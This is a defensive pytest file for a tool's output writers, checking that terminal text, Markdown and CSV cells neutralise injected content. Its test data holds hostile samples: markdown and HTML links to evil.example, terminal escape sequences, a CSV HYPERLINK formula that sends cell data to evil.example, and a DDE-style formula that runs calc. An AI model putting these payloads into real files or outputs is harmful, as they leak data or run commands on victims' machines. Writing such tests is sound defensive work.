"""One rule per sink (issue 42, mechanism 4; envmatrix/outputs/sinks.py): text from elsewhere reaches a terminal
with its escape sequences shown, never acted on; Markdown (a watch summary, an issue body) with links, images,
HTML, mentions and table pipes escaped or quoted as code; results.csv with no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest
from bounded import run_bounded
from markdown_it import MarkdownIt
from records_factory import make_record

from envmatrix.outputs.report import write_merged
from envmatrix.outputs.sinks import FORMULA_START, csv_cell, md_code, md_text, terminal
from envmatrix.records.outcomes import decided
from envmatrix.records.provenance import Merged, Provenance, Sourced

HOSTILE = [
    "[click](http://evil.example/steal)",
    "![pixel](http://evil.example/t.gif)",
    '<img src="http://evil.example/t.gif">',
    "<script>alert(1)</script>",
    "<http://evil.example/autolink>",
    "@everyone @org/team",
    "a | b | c",
    "# heading",
    "- list item",
    "1. numbered",
    "> quote",
    "**bold** _it_ ~~gone~~",
    "`code` ``` fence",
    "\x1b]0;owned\x07\x1b[2J\u202eeman",
    "line\nbreak\r\n---",
    "www.evil.example",
    "[ref]: http://evil.example",
    "&lt;b&gt; &#64;",
]
ESCAPES = ["\x1b", "\x07", "\u202e", "\x9b"]


def render(md: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(md)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_renders_as_the_characters_it_is(text: str) -> None:
    for shown in (md_text(text), md_code(text)):
        row = render(f"| a | b |\n|---|---|\n| {shown} | z |\n")
        assert "<a " not in row and "<img" not in row and "<script" not in row and "<h1" not in row and "<del" not in row
        assert row.count("<td>") == 2, "a pipe cannot add a cell"
        assert "\x1b" not in shown and "\u202e" not in shown and "\n" not in shown
    escaped = md_text(text)
    assert not re.search(r"(?<!\\)[@\[\]<>|]", escaped), "every mention, bracket, tag and pipe is escaped"


@pytest.mark.parametrize("text", [f'{c}HYPERLINK("http://evil.example")' for c in FORMULA_START] + ["@SUM(1+1)*cmd|' /C calc'!A0"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(text: str) -> None:
    assert csv_cell(text).startswith("'") and csv_cell(text)[1:] == text
    assert csv_cell(-1.5) == -1.5 and csv_cell("2.5.1") == "2.5.1"


def test_results_csv_holds_no_live_formula(tmp_path: Path) -> None:
    rec = make_record("ok", gpu="cpu", cuda="none")
    rec = replace(rec, outcome=decided("ok", '=HYPERLINK("http://evil.example?"&A1,"ok")', "ok"))
    merged = Merged((Sourced(rec, Provenance("@SUM(1+1)", note="+cmd")),))
    paths = write_merged(merged, tmp_path)
    rows = list(csv.reader(io.StringIO(paths["csv"].read_text())))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "no cell starts a formula"
    assert '\'=HYPERLINK("http://evil.example?"&A1,"ok")' in cells and "'@SUM(1+1)" in cells


@pytest.mark.parametrize("text", ["\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u202e", "\x9b31m", "a\rb"])
def test_terminal_text_shows_escapes(text: str) -> None:
    shown = terminal(text)
    assert not any(e in shown for e in ESCAPES) and "\r" not in shown


def test_init_never_prints_an_included_files_escape_sequence(tmp_path: Path) -> None:
    name = "evil\x1b]0;owned\x07\x1b[2J.txt"
    (tmp_path / name).write_text("torch==2.13.0\n")
    req = tmp_path / "requirements.txt"
    req.write_text(f"-r {name}\ntransformers==4.57.6\n")
    ended = run_bounded(["init", "--from", str(req), "--file", str(tmp_path / "m.yaml"), "--gpu", "cpu"], cwd=tmp_path)
    assert ended.status == 0, ended.stderr
    out = ended.stdout + ended.stderr
    assert not any(e in out for e in ESCAPES) and "\\x1b" in out, "the name is shown, escaped"
